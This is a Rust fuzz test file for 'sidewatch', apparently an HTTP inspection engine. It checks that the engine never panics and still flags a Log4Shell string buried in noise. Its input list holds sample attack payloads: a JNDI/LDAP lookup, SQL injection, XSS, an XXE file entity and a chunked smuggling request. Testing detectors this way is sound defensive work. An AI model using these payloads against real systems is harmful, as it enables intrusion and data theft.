//! Never panics: arbitrary bytes, mutated cases, host calls in any order, any policy text.

mod engine;

use proptest::prelude::*;
use sidewatch::http::{Messages, Version};
use sidewatch::{Anomaly, Engine, Policy, Transaction};

/// One call of a host.
#[derive(Clone, Debug)]
enum Call {
    Line(Vec<u8>, Vec<u8>, u8),
    Header(Vec<u8>, Vec<u8>),
    HeadEnd,
    Body(Vec<u8>),
    Trailer(Vec<u8>, Vec<u8>),
    Raw(Vec<u8>, bool),
    End,
    Bytes(Vec<u8>),
    Status(Option<u16>),
    Interim(u16),
    AnswerHeader(Vec<u8>, Vec<u8>),
    AnswerHeadEnd,
    Answer(Vec<u8>),
    AnswerTrailer(Vec<u8>, Vec<u8>),
    AnswerRaw(Vec<u8>, bool),
    AnswerEnd,
    Id(Vec<u8>),
    Trace(bool),
    Reset,
    Read,
}

/// Text that means something to some layer, or any bytes.
fn bytes() -> impl Strategy<Value = Vec<u8>> {
    let telling: &[&[u8]] = &[
        b"GET",
        b"CONNECT",
        b"/a/../%2e%2e;x=1?q=%2527+union+select&q=2",
        b"http://u:p@[::1]:80/x#y",
        b"*",
        b"",
        b"Content-Type",
        b"multipart/form-data; boundary=b",
        b"application/json; charset=utf-16",
        b"Content-Encoding",
        b"gzip, deflate, gzip, gzip",
        b"Cookie",
        b"Authorization",
        b"a=1; =; \"b\"=2;;c",
        b"Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
        b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--b--",
        b"{\"a\":[1,{\"b\":\"\\ud800\\u0027\"},",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///x'>]><a b='&x;'><![CDATA[",
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03KL\xb4MJ\x02\0",
        b"${jndi:ldap://198.51.100.7/o}",
        b"%u0027%c0%27%00\xff\xfe'\"><svg onload=x()>",
        b"JyBvciAxPTEgLS0gJyBvciAxPTEgLS0g",
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    ];
    prop_oneof![
        4 => prop::sample::select(telling).prop_map(<[u8]>::to_vec),
        2 => prop::collection::vec(any::<u8>(), 0..80),
        1 => (any::<u8>(), 0usize..20_000).prop_map(|(b, n)| vec![b; n]),
    ]
}

fn call() -> impl Strategy<Value = Call> {
    prop_oneof![
        1 => (bytes(), bytes(), any::<u8>()).prop_map(|(m, t, v)| Call::Line(m, t, v)),
        3 => (bytes(), bytes()).prop_map(|(n, v)| Call::Header(n, v)),
        1 => Just(Call::HeadEnd),
        4 => bytes().prop_map(Call::Body),
        1 => (bytes(), bytes()).prop_map(|(n, v)| Call::Trailer(n, v)),
        2 => (bytes(), any::<bool>()).prop_map(|(b, more)| Call::Raw(b, more)),
        1 => Just(Call::End),
        3 => bytes().prop_map(Call::Bytes),
        1 => any::<Option<u16>>().prop_map(Call::Status),
        1 => any::<u16>().prop_map(Call::Interim),
        1 => (bytes(), bytes()).prop_map(|(n, v)| Call::AnswerHeader(n, v)),
        1 => Just(Call::AnswerHeadEnd),
        1 => bytes().prop_map(Call::Answer),
        1 => (bytes(), bytes()).prop_map(|(n, v)| Call::AnswerTrailer(n, v)),
        1 => (bytes(), any::<bool>()).prop_map(|(b, more)| Call::AnswerRaw(b, more)),
        1 => Just(Call::AnswerEnd),
        1 => bytes().prop_map(Call::Id),
        1 => any::<bool>().prop_map(Call::Trace),
        1 => Just(Call::Reset),
        1 => Just(Call::Read),
    ]
}

fn make(transaction: &mut Transaction, call: &Call) {
    let version = |v: u8| {
        [Version::Http09, Version::Http10, Version::Http11, Version::Http2, Version::Other]
            [usize::from(v) % 5]
    };
    match call {
        Call::Line(method, target, v) => transaction.request_line(method, target, version(*v)),
        Call::Header(name, value) => transaction.request_header(name, value),
        Call::HeadEnd => transaction.request_head_end(),
        Call::Body(piece) => transaction.request_body(piece),
        Call::Trailer(name, value) => transaction.request_trailer(name, value),
        Call::Raw(piece, more) => transaction.request_raw(piece, *more),
        Call::End => transaction.request_end(),
        Call::Bytes(bytes) => transaction.request_bytes(bytes),
        Call::Status(status) => transaction.response_line(*status, Version::Http11),
        Call::Interim(status) => transaction.response_interim(*status),
        Call::AnswerHeader(name, value) => transaction.response_header(name, value),
        Call::AnswerHeadEnd => transaction.response_head_end(),
        Call::Answer(piece) => transaction.response_body(piece),
        Call::AnswerTrailer(name, value) => transaction.response_trailer(name, value),
        Call::AnswerRaw(piece, more) => transaction.response_raw(piece, *more),
        Call::AnswerEnd => transaction.response_end(),
        Call::Id(id) => transaction.set_id(id),
        Call::Trace(on) => transaction.set_trace(*on),
        Call::Reset => transaction.reset(),
        Call::Read => read(transaction),
    }
}

/// Reads everything a transaction tells.
fn read(transaction: &Transaction) {
    let mut json = Vec::new();
    transaction.write_json(&mut json);
    let event: serde_json::Value = serde_json::from_slice(&json).expect("an event is JSON");
    assert_eq!(event["verdict"], transaction.verdict().name());
    assert_eq!(event["findings"].as_array().map(Vec::len), Some(transaction.findings().len()));
    let _ = (transaction.trace(), transaction.request_body_kept(), transaction.response_body_kept());
}

fn keeping() -> Engine {
    Engine::new(Policy::from_toml("[limits]\nkeep_body = 1000").expect("a policy"))
}

/// A word or sign of a policy.
fn word() -> impl Strategy<Value = String> {
    let words = &[
        "[limits]\n",
        "[detection]\n",
        "[[exclusions]]\n",
        "[masking]\n",
        "findings",
        "sensitivity",
        "disabled",
        "field",
        "point",
        "classes",
        "names",
        "enabled",
        " = ",
        "=",
        "1",
        "-1",
        "99999999999999999999",
        "1.5",
        "true",
        "\"strict\"",
        "[\"sqli\"]",
        "[\"xss\", 4]",
        "\"*\"",
        "\n",
        ".",
        "{",
        "}",
        "[",
        "'",
        "\"",
        "\u{0}",
        "ü",
        "#",
    ];
    prop_oneof![6 => prop::sample::select(words.as_slice()).prop_map(str::to_owned), 1 => any::<String>()]
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(200) })]

    #[test]
    fn calls_in_any_order(calls in prop::collection::vec(call(), 0..30)) {
        let mut transaction = keeping().transaction();
        calls.iter().for_each(|call| make(&mut transaction, call));
        read(&transaction);
        // And none of it is left after a reset.
        transaction.reset();
        transaction.set_trace(false);
        let plain = b"GET /a HTTP/1.1\r\nHost: a.example\r\n\r\n";
        let told = engine::through_transaction(&mut transaction, &[plain]);
        prop_assert_eq!(told, engine::through_transaction(&mut keeping().transaction(), &[plain]));
    }

    #[test]
    fn any_bytes(pieces in prop::collection::vec(bytes(), 0..8)) {
        let mut transaction = Engine::default().transaction();
        pieces.iter().for_each(|piece| transaction.request_bytes(piece));
        transaction.request_end();
        read(&transaction);
        let mut connection = Engine::default().connection();
        for (i, piece) in pieces.iter().enumerate() {
            match i % 5 {
                0 | 2 => connection.client(piece),
                1 | 3 => connection.server(piece),
                _ => {
                    connection.client_gap(piece.len() as u64);
                    connection.server_conflict(piece);
                    connection.settle();
                }
            }
        }
        connection.client_close();
        connection.server_close();
        while let Some(transaction) = connection.next_transaction() {
            read(&transaction);
            connection.recycle(transaction);
        }
    }

    /// A byte changed, dropped or doubled anywhere in a case, or two cases crossed: no panic, and the same when cut.
    #[test]
    fn mutated_cases(
        a in any::<prop::sample::Index>(),
        b in any::<prop::sample::Index>(),
        changes in prop::collection::vec((any::<prop::sample::Index>(), 0u8..4, any::<u8>()), 0..6),
        cut in any::<prop::sample::Index>(),
        cross in any::<bool>(),
    ) {
        let cases: Vec<Vec<u8>> = engine::requests().iter().map(engine::Request::bytes).filter(|b| b.len() < 5000).collect();
        let (mut bytes, other) = (a.get(&cases).clone(), b.get(&cases));
        if cross {
            let at = cut.index(bytes.len());
            bytes.truncate(at);
            bytes.extend_from_slice(&other[cut.index(other.len())..]);
        }
        for (at, how, byte) in changes {
            if bytes.is_empty() {
                break;
            }
            let at = at.index(bytes.len());
            match how {
                0 => bytes[at] = byte,
                1 => _ = bytes.remove(at),
                2 => bytes.insert(at, byte),
                _ => {
                    let tail = bytes[at..].to_vec();
                    bytes.extend(tail);
                }
            }
        }
        let mut transaction = Engine::default().transaction();
        let whole = engine::through_transaction(&mut transaction, &[&bytes]);
        read(&transaction);
        let (head, tail) = bytes.split_at(cut.index(bytes.len() + 1));
        prop_assert_eq!(engine::through_transaction(&mut transaction, &[head, tail]), whole);
        engine::through_connection(&Engine::default(), [(engine::Sender::Server, &bytes[..]), (engine::Sender::Client, &bytes[..])]);
    }

    #[test]
    fn any_policy_is_read_or_refused_with_its_place(words in prop::collection::vec(word(), 0..20)) {
        let text = words.concat();
        match Policy::from_toml(&text) {
            Ok(policy) => {
                let mut transaction = Engine::new(policy).transaction();
                engine::through_transaction(&mut transaction, &[b"GET /?a='or'1'='1 HTTP/1.1\r\nHost: a\r\n\r\n"]);
            }
            Err(error) => {
                prop_assert!(error.line() >= 1 && error.column() >= 1 && !error.reason().is_empty());
                prop_assert!(error.line() <= text.lines().count() + 1, "{}", error);
            }
        }
    }

    /// The payload stands in the middle of noise: whatever the syntax around it, some value shows it.
    #[test]
    fn odd_syntax_hides_nothing(before in prop::collection::vec(any::<u8>(), 0..60), after in prop::collection::vec(any::<u8>(), 0..60)) {
        let bytes = [&before[..], b" ${jndi:ldap://198.51.100.7/o} ", &after].concat();
        let told = engine::through_transaction(&mut Engine::default().transaction(), &[&bytes]);
        prop_assert!(told.findings.iter().any(|f| f.technique == "log4shell"), "{:?}", told);
        let known = told.anomalies.contains(&Anomaly::NotHttp.name()) || told.json.contains("\"request\"");
        prop_assert!(known, "{:?}", told);
    }
}
